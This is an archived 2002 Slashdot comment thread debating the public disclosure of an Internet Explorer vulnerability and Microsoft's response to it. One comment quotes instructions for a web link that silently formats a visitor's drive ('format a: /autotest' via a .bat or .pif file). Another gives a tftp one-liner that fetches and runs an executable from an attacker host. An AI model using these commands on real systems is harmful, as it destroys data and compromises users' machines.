    Now that we're talking about sockets, I just need to make the case for sockets in JavaScript. I know that people are fiddling with XML-RPCand SOAP these days, to make websites more interactive. I can't see how these could make websites more interactive than common HTTP POST based implementations - in fact, XML-RPC and SOAP _are_ HTTP POST. JavaScript was developed with the specific purpose of making websites more interative - by enabling them to change without the user having to send a new HTTP request. Many things, like editors, mail clients, etc. work just fine with HTML forms and a little JavaScript. The one type of application that doesn't work with this model is the type that requires realtime interaction with the server. It can be kludged by having JavaScript submit invisible forms, but all those HTTP request and response headers seem like a lot of wasted bandwidth if you just want to send a short message, not to mention the overhead from having to make a new connection for each reqest, as was the case with the old HTTP 1.0 . Sockets are flexible. Sockets are simple. Lack of sockets is the last thing that keeps me from writing all my software (well...) in HTML and JavaScript. Do I _really_ need to have my visitors download a multi-megabyte Java plugin just to get socket support? Sorry for the rant, just had to say it.
  • by Webmonger ( 24302 ) on TuesdayNovember 19, 2002 @02:16PM (#4708265) Homepage
    Yes, it would be responsible reporting. It would make clear to the public that internet censorship will not prevent crime or terrorism, an excuse that is used all too often to promote internet censorship.

    It would also demonstrate the ludicrousness of the DMCA: you're allowed to explain how to destroy the world, but if you explain how to view an explanation that might enable people to violatecopyright, you can go to jail.

    The only reason it might be irresponsible reporting is if there was more important news that they couldn't print on the front page as a result.

    Iraq, a country with far more resources than The People's Movement For Some Obscure Cause, still hasn't built an atom bomb, so it's unlikely your hometown will be vaporized soon. Atom bombs aren't easy to build.

    This is the problem with analogies.
  • He Gave Them a Month (Score:5, Informative)

    by serutan ( 259622 ) <snoopdoug AT geekazon DOT com> on Tuesday November 19, 2002 @02:18PM (#4708280) Homepage
    If you read Sandblad's actual BugTraq posting [securityfocus.com] you will see that he had notified Microsoft more than a month before posting the details of the exploit. Quoting:

    Microsoft was initially contacted 2002-10-04. After several mail exchanges, their finalresponse were that the technique used to run programs with parameters from the "Local computer zone" was no security vulnerability. A fix should instead be applied for all possibilities for content in the "Internet zone" to access the "Local computer zone".

    How much time does a company have to actually fix a problem this serious? When somebody takes the trouble to notify a company about a defect, they've already demonstrated helpfulness and responsibility. It would make sense for the company to take that helpful, responsible person into the loop, and at least update them periodically about what is being done about the problem. That would give a helpful person like Sandblad a basis for continuing to wait. In this case Microsoft gave no indication that they were doinganything about the problem or intended to do anything about it. Continuing to sit on the information certainly wouldn't give them any further incentive. Sandblad reported this problem, got a thanks-but-no-thanks, then after a month of no news went over their heads to the public. I would say he handled it very responsibly.• by zurab ( 188064 ) on Tuesday November 19, 2002 @02:19PM (#4708308)
    If they cared about preserving security for users, or getting the defect fixed, they'd have given the working code exclusively to the defect owner.

    From the article:

    The vulnerability is well-known within the security community and the information posted on Bugtraq was information that had been copied or linked from other public forums...

    1. People who are actively looking for such security holes for the sole reason of exploiting them already have this information and the exploit.

    2. The "owner" of the bug should be actively monitoring the security of its products, the key word being *actively*. This means they should have more information than the attacker and abuser, and fix the serious security holes before they become public. The passive attitude that is

    - we won't fix it until someone points it out to us and gives us a working exploit- we'll let PR handle this for couple of months
    - we'll cry foul if anyone discloses vulnerability to public
    - we'll wait until our marketing department OKs our new service pack

    will not do and is not appropriate.

    Posting working malicious code to the general population serves NO BENEFIT to anyone other than those with malicious intentions.

    Actually, it allows everyone interested to:

    - easily check and verify if and how they are vulnerable
    - fix their security, adjust their settings, etc. to protect their vulnerabilities
    - easily test that their changes have indeed taken effect and will protect them against the stated attacks.

    You can properly describe 99.99% of bugs without giving people the tools to take advantage of it.Vague and/or general descriptions of bugs expand the distance between "general population" and security, that they simply do not care about exploits and security holes. An average person (or even average admin) seeing 30+ unfixed security bugs in IE, that in a hypothetical scenario, on a hypothetical website could hypothetically be exposed to such exploits, will not spend a week and a half (or more) understanding and fixing their security. A working exploit with the proper warnings and understanding, in my opinion, brings them closer to the reality and makes them more responsible towards staying actively aware of security now and in the future.
  • Re:OT but relevant (Score:4, Informative)

    by Espen ( 96293 ) on Tuesday November 19, 2002 @02:21PM (#4708327)
    A simple 'ps ux' suggest IE runs as the user who launched it, not root. Something else must be going on here.
  • Worse than goatse (Score:4, Informative)

    by phorm ( 591458 ) on Tuesday November 19, 2002 @02:29PM (#4708443) Journal
    Not to troll, but perhaps slashdotters should be extra careful of the links they click (for those on IE) in the near future.
    Goatse is disturbing and easily detected, but I'd imagine that this script could be setup almost anywhere, making it easy to slip in a slashdot comment.

    And yes, I'm sure there are probably enough trolls on here that somebody would try it if they knew how.
  • by Anonymous Coward on Tuesday November 19, 2002 @02:36PM (#4708532)
    Looks like automatedformats via "mined" web pages in Explorer have been around for a while now. This Bugtraq link is from back in 1999:

    http://online.securityfocus.com/archive/1/28213/ 20 02-09-30/2002-10-06/0

    Bits of note include:

    "The key is the Format command's "/autotest" flag, which I believe was
    put into placeearly on in MS-DOS's history to assist in batch
    processing, and was probably dropped from the documentation some time
    back (it's not in my DOS 5.0 manual as far as I can tell -- although
    that's not too far in the past). It can be tested for by entering:
    "Format a: /autotest" at the MS-DOS C:\ prompt.

    The automated format via web page can be accomplished as follows (with
    the example shown demonstrating how to create a link on a web page which
    will automatically format Drive A):

    1) Either:

    Create a .pif file ("Format.pif") with the Command Line set to:

    "C:\WINDOWS\COMMAND\FORMAT.COM a: /autotest"And Working Line set to:



    Create a .bat file ("Format.bat") with a single command:

    "format a: /autotest"

    (Should the user wish to format another disk, the a: may be
    replaced with c:, d:, e:, etc.)

    2) Link to the file on a web page as follows:Click Me [slashdot.org]


    Click Me [slashdot.org]

    According to the method chosen for implementation in step 1.These
    links may be placed beneath graphics or text, as would be found on a
    regular web page.

    3) Upload the html document and .pif or .bat file to the targetted web
    server directory and wait for an unwary user to click the link and

    Spooky, eh?

    These steps don't create aTrojan Horse so much as an out-right "Cyber Mine" which will be activated on a user's machine the instant they click the link and accept the file into their system. As the download of the 1k file is almost instantaneous, damage will be made to the user's data in a matter of seconds. "
  • True. True. (Score:3, Informative)

    by CrystalFalcon ( 233559 ) on Tuesday November 19, 2002 @02:40PM (#4708567) Homepage
    All intricacies of the built-in format command aside, the instant you run code on my computer, it's not my computer anymore.

    And to be honest, I'd be much more scared about something like
    tftp -i ftp.blackhats.net GET/pub/ownj00.exe & ownj00.exe
    than I would about having my hard disk formatted.

    (Didja know there's a one-step command-line FTP in Windows? Very useful for this kind of activity.)
  • by Monkeyman334 ( 205694 ) on Tuesday November 19, 2002 @02:41PM (#4708587)
    You are either a Windows 98 user or not a Windows user at all, because you don't seem to know the first thing about Joe Schmoe security in Windows. Windows XP,Me, and quite possibly Windows 2000 all have auto update features. It notifies you when there are updates to be downloaded, then it will automatically download them, press again to install, and the changes will take effect next time you reboot. I never go more than a day without a security updates, all with less effort than checking my email. If you chose to you could also set it not to prompt you before installing updates, but with all the FUD slashdot likes to spread about XP running behind your back, I thought I'd let everyone know the process that*does* prompt you and shows you a list of the updates. And it does let you uninstall updates if for some ungodly reason it breaks some software.
  • Re:I disagree. (Score:4, Informative)

    by Tyrall ( 191862 ) on Tuesday November 19, 2002 @02:42PM (#4708598) Homepage
    How about over a month and after specifically denying there wasan issue?
    Microsoft were informed (from the BugTraq posting, not third hand) on October 4th.

    Quoting direct from the original Bugtraq advisory dated 6th November (incidentally, not the link to a ZDNet forum which seems to have got everyone fussing):


    Microsoft was initially contacted 2002-10-04. After several mail exchanges, their final response were that the technique used to run programs with parameters from the "Local computer zone" was no security vulnerability. A fix should instead be applied for all possibilities for content in the "Internet zone" to access the "Local computer zone".

    Microsoft KNEW of the issue, and actually dismissedthe issue, saying it was a necessary feature.

    Don't shoot the messenger, shoot the retards who despite proof to the contrary regard bugs as feature.

  • Re:Active content... (Score:3, Informative)

    by Malcontent ( 40834 ) on Tuesday November 19, 2002 @02:51PM (#4708695)
    "What if, for example, someone operating a popular website included some Java Applet that openened a TCP/IP link to somewhere it received instructions from, and then, on the master's command, launched a DDoS attack on some site? "

    I thought applets could only open up sockets to the server they were loaded from. Has this changed? If not then your scenario would never happen.
  • by Anonymous Custard ( 587661 ) on Tuesday November 19, 2002 @03:05PM (#4708841) Homepage Journal
    After reading the proof-of-concept script at http://online.securityfocus.com/archive/1/298748 [securityfocus.com], I now know at least to avoid blind links.Also, I've come up with this possible solution:

    In IE, bring the potentially malicious page to the front, then press Ctrl-O to get the Open prompt. Enter this:


    then click OK. Now anytime that a javascript on that page tries to do a location.replace command will now instead issue a null command (no command at all). (Assuming the script hasn't already been activated, under an onLoad event or something)

    This works with annoying exit pop-up ads too:

    You can do this with all sorts of javascript commands that get abused. Find some offensive pages, look at their source, and disable the commands you see used often. (onunload is probably the worst and most often used).

    Major inspiration from this cnet builder page [netscape.com].
  • by Anonymous Coward on Tuesday November 19, 2002 @03:22PM (#4709070)

    IMHO, if BugTraq is going to post vulns, they need to be non-working, and the user has to have the knowledge to fix them. Especially on closed platforms, it does less good release exploits for code you can't fix, because you're not fixing the problem, you're just working around it.

    Great. You've now thrown up a speedbump.

    [h4x0r] dude! u see that sploit on bugtraq?
    [z3r0c001] yea but its broken
    [h4x0r] i no but i talked 2 m4sterbl4ster, he is l33t and fixed it
    [h4x0r] u want a copy
    [z3r0c001] yea!!!!

    Not all punks are scriptkiddies.

    Secondly, much of an issue is a something only the vendor can do. And the vendors have historically shown that they will not address security issues unless sufficiently motivated. Vendors are businesses. And customer demand is the motivation vendors best understand.

    Unfortunately, customer demand is only created bysufficiently demonstrating a problem. Its one thing to claim something exists. Its entirely different to DEMONSTRATE that it exists. The dirty little non-secret is that such demonstrations ultimately involve considerable pain to the very people whowould be saved.

    And that is where the main message is being lost. Yes, the public is realizing that there is some serious security problems out there. But instead of demanding better products, they blame the messanger. Instead of asking "why is my email client so insecure", the question asked is "why do people write viruses?"

    The emporer has no clothes. And instead of dealing with the issue at hand, we have "experts" demanding that those who are posting notices about this situation to the public stop. As if the situation would improve if everyone just ignored it. Perhapse less people would see the naked emporer if they stopped looking. It would make the tailor's union happy. And it would probably please those who publish and sell expensive books on the subject. But it does nothing for the public, nor ultimately the emporer him/itself.
  • Re:OT but relevant (Score:1, Informative)

    by Anonymous Coward on Tuesday November 19, 2002 @03:31PM(#4709155)
    Ummm... if the user doesn't have access to these directories, then why does making a "link in my browser"(is that a bookmark or a ln -s?) suddenly allow you to have access to those files? Perhaps you do not understand the security?
  • by karlm ( 158591 ) on Tuesday November 19, 2002 @03:32PM (#4709168) Homepage
